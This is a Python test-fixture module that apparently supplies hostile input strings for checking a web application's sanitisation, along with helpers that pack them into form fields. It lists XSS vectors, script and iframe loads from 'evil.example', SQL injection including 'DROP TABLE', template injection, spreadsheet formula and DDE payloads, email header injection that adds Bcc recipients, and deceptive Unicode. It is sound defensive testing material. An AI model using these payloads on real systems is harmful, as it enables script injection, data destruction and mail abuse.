"""Hostile input by class: what people and programs type to make a page, a mail or a file do something.

Each attack holds the word `zqx`, by which a test sees that it arrived, and few are longer than the
shortest field. What would run calls `zqx()`, which a browser can watch.
"""

from kingsfund.core import text as texts

WORD = "zqx"

ATTACKS: dict[str, tuple[str, ...]] = {
    "tags": (
        "<script>zqx()</script>",
        "<script src=//evil.example/zqx.js></script>",
        "<iframe src=//evil.example/zqx></iframe>",
        "<object data=//evil.example/zqx></object>",
        "<base href=//evil.example/zqx/>",
        "<meta http-equiv=refresh content=0;url=//evil.example/zqx>",
        "</p></div></main><h1>zqx</h1>",
        "</title></textarea></style></script><b>zqx",
        "<<script>zqx()<</script>",
        "<form action=//evil.example/zqx><input name=password>",
    ),
    "events": (
        "<img src=x onerror=zqx()>",
        '"><img src=x onerror="zqx()">',
        "<details open ontoggle=zqx()>",
        "<input autofocus onfocus=zqx()>",
        '" autofocus onfocus="zqx()" zqx="',
        "' onmouseover='zqx()' zqx='",
        "x onload=zqx() zqx=",
        "`onclick=zqx()`",
    ),
    "protocols": (
        "javascript:zqx()",
        "JaVa\tScRiPt:zqx()",
        "<a href=javascript:zqx()>zqx</a>",
        "data:text/html,<script>zqx()</script>",
        "vbscript:zqx()",
        "https://evil.example/zqx/javascript:zqx()",
        'https://evil.example/zqx"onmouseover="zqx()',
        "https://bank.example@evil.example/zqx'><i>",
        "view-source:https://evil.example/zqx",
        "//evil.example/zqx",
    ),
    "entities": (
        "&lt;script&gt;zqx()&lt;/script&gt;",
        "&#60;img src=x onerror=zqx()&#62;",
        "&#x3c;script&#x3e;zqx()",
        "&amp;lt;b&amp;gt;zqx",
        "java&#10;script:zqx()",
        "%3Cscript%3Ezqx()%3C/script%3E",
        "\\u003cscript\\u003ezqx()",
    ),
    "svg and mathml": (
        "<svg onload=zqx()>",
        "<svg><script>zqx()</script></svg>",
        "<svg><animate onbegin=zqx() attributeName=x>",
        "<svg><a xlink:href=javascript:zqx()>zqx",
        "<math href=javascript:zqx()>zqx</math>",
        "<math><mtext><mglyph><style><img src onerror=zqx()>",
    ),
    "mutation": (
        '<noscript><p title="</noscript><img src=x onerror=zqx()>">',
        "<!--><img src=x onerror=zqx()>-->",
        "<![CDATA[<script>zqx()</script>]]>",
        "<!--<script>zqx()",
        "--><script>zqx()</script><!--",
        "<template><script>zqx()</script></template>",
        "<?xml version=1.0?><script>zqx()</script>",
        "<style>@import'//evil.example/zqx';</style>",
        "<p style=background:url(//evil.example/zqx)>",
    ),
    "scripts and templates": (
        "</script><script>zqx()</script>",
        "';zqx();//",
        "${zqx()}",
        "{{ zqx }}{% debug %}",
        "{{ settings.SECRET_KEY }} zqx",
        "zqx\u2028zqx()\u2029",
        '{"zqx": "</script>"}',
        "zqx %s %(zqx)s {0} {zqx.__class__}",
    ),
    "queries": (
        "zqx'; DROP TABLE comments_comment; --",
        'zqx" OR ""="',
        "zqx* NEAR(zqx zqx) AND OR NOT ^zqx",
        "zqx:* & !zqx | (zqx <-> zqx",
        "zqx%_\\%",
        "zqx&state=all&_changelist_filters=state%3Dall#zqx",
        "../../zqx",
    ),
    "directions": (
        "zqx \u202egnp.exe\u202c",
        "zqx \u2067txet\u2069 \u2066",
        "\u202dzqx\u202a\u202b",
        "zqx\u200e\u200f\u061c",
        "zqx שלום (x) 1.",
    ),
    "hidden characters": (
        "z\u200bq\u200cx zqx\u200d",
        "zqx \ufeffpay\u2060pal\u00ad",
        "zqx \U000e0041\U000e0042\U000e007f",
        "zqx \ufe00\u180e\u3164\u115f",
        "zqx \x7f\x9b2J\x85",
    ),
    "look-alikes": (
        "zqx Еditоriаl Bоаrd",
        "zqx \uff1cscript\uff1ezqx()\uff1c/script\uff1e",
        "zqx ＡｄＭｉＮ",
        "zqx ⒶⒹⓂⒾⓃ ﷺ",
    ),
    "piled marks": (
        "z" + "\u0335\u0334\u0321" * 12 + "qx zqx",
        "zqx" + "\u0e47" * 40,
        "zqx" + "\u20dd\u0489" * 20,
    ),
    "formulas": (
        "=zqx()+1",
        "+zqx()",
        "-zqx()",
        "@zqx()",
        '=HYPERLINK("//evil.example/zqx")',
        "=cmd|' /C zqx'!A0",
        "＝zqx()",
        "＠zqx()",
        '"=zqx()"',
        "\t=zqx()",
        "zqx;=zqx()",
    ),
    "header lines": (
        "zqx\r\nBcc: zqx@evil.example",
        "zqx\nSubject: zqx",
        "zqx\r\n\r\n<script>zqx()</script>",
        "zqx%0d%0aBcc:zqx@evil.example",
        "zqx\x0b\x0cBcc: zqx@evil.example",
        "=?utf-8?q?zqx=0D=0ABcc:_zqx@evil.example?=",
        "zqx <zqx@evil.example>, zqx@evil.example",
    ),
}

# What no database can hold: refused beside the field, or with the whole request.
UNSTORABLE: dict[str, tuple[str, ...]] = {
    "NUL": ("zqx\0", "\0zqx<scr\0ipt>zqx()</script>", "zqx \0=1+1"),
    "surrogates": ("zqx\ud800", "zqx\udfff zqx\ud83d"),
}

# As long as a form takes no word, and the longest that a comment may be.
LONG_WORD = WORD * 22_000
LONGEST_WORD = "zqx said " + "W" * 4_900

# What a form for an address takes or refuses; none of it may end a header or begin a tag.
ADDRESSES = (
    '"<script>zqx()</script>"@evil.example',
    '"zqx\\"onload=zqx()"@evil.example',
    "=zqx()@evil.example",
    "+zqx@evil.example",
    "zqx'or'1'='1@evil.example",
    "{{zqx}}@evil.example",
    "zqx@evil.example\r\nBcc: zqx@evil.example",
    "zqx@evil.example, zqx2@evil.example",
    "zqx <zqx@evil.example>",
    "zqx\u202e@evil.example",
    "zqx\u200b@evil.example",
    "zqx@еvil.example",
    "zqx@evil.example\0",
    "zqx@[127.0.0.1]",
    "zqx@" + "a" * 300 + ".example",
    "javascript:zqx()@evil.example",
)


def every_attack() -> list[str]:
    return [attack for attacks in ATTACKS.values() for attack in attacks]


def packed(limit: int) -> list[str]:
    """All attacks in as few texts as a field of that length takes, one a line."""
    together = [""]
    for attack in every_attack():
        longer = f"{together[-1]}\n{attack}".strip("\n")
        # Line breaks are longer as a browser sends them.
        if len(longer) + longer.count("\n") > limit:
            together.append(attack)
        else:
            together[-1] = longer
    return together


def lined(limit: int) -> list[str]:
    """The attacks that stand on one line, in as few lines as a field of that length takes."""
    lines = [""]
    for attack in every_attack():
        if not fits_a_line(attack):
            continue
        longer = f"{lines[-1]} {attack.strip()}".strip(" ")
        if len(longer) > limit:
            lines.append(attack.strip())
        else:
            lines[-1] = longer
    return lines


def with_controls() -> list[str]:
    """The attacks that no line takes."""
    return [attack for attack in every_attack() if not fits_a_line(attack)]


def fits_a_line(attack: str) -> bool:
    return not texts.has_controls(texts.with_spaces_in_line(attack.strip()))
